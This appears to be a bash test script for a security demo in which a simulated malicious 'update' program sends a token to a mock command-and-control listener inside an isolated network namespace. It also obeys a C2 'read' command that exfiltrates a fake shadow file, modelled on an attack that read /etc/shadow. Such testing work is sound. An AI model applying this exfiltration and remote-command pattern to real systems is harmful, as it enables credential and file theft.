#!/usr/bin/env bash
# The demo's C2 can live in a network namespace of its own (new_netns: a veth pair, addresses in
# 10.213.0.0/16), so the update's egress goes to a non-loopback address, as in a real
# exfiltration; the C2's "read PATH" command is obeyed; the namespace and its links are gone
# after the test.
. "$(dirname "$0")/../lib/common.sh"
. "$TESTLIB/demo.sh"
requires_root
requires_demo
requires_io_uring
requires_cmd ip

new_netns
# The C2 also orders one more file read, as the original's did (/etc/shadow there).
printf "root:\$6\$demo-%s:19000:0:99999:7:::" "$RANDOM" >"$TEST_TMP/shadow"
# shellcheck disable=SC2034 # read by demo_c2_start
DEMO_C2_CMD="read $TEST_TMP/shadow"
demo_c2_start 3 "$NETNS_IP" "$NETNS"
assert_eq "$NETNS_IP:$DEMO_C2_PORT" "$DEMO_C2" "C2 address"
# The listener runs in the namespace, not on the host.
[ "$(readlink "/proc/$SPAWNED_PID/ns/net")" != "$(readlink /proc/self/ns/net)" ] ||
	fail "C2 runs in the host network namespace"

demo_token
"$DEMO/update" -token "$DEMO_TOKEN" -c2 "$DEMO_C2" -n 2 -interval 300ms -op send \
	>"$TEST_TMP/update.log" 2>&1 || fail "update: $(cat "$TEST_TMP/update.log")"
demo_wait_frames 3
assert_eq 2 "$(json_count "$DEMO_C2_LOG" "data=$DEMO_TOKEN_VALUE" "peer~$NETNS_HOST_IP:")" \
	"token frames from the host end of the veth"
assert_eq 1 "$(json_count "$DEMO_C2_LOG" "path=$TEST_TMP/shadow" "data=$(cat "$TEST_TMP/shadow")")" \
	"frames with the file the C2 asked for"
assert_eq "read $TEST_TMP/shadow" "$(json_get "$DEMO_C2_LOG" cmd frame=1)" "first command"
assert_eq 1 "$(grep -c "command \"read $TEST_TMP/shadow\": sent" "$TEST_TMP/update.log")" \
	"command obeyed (RECV)"

# Cleanup check, in a nested test: its namespace is gone afterwards.
printf '#!/usr/bin/env bash\n. %q\nnew_netns\necho "$NETNS"\n' "$TESTLIB/common.sh" >"$TEST_TMP/inner"
chmod +x "$TEST_TMP/inner"
ns=$("$TEST_TMP/inner")
[ -n "$ns" ] || fail "inner test made no namespace"
! ip netns list | grep -q "^$ns\\b" || fail "namespace $ns left behind"
echo "ok: C2 in $NETNS at $DEMO_C2"
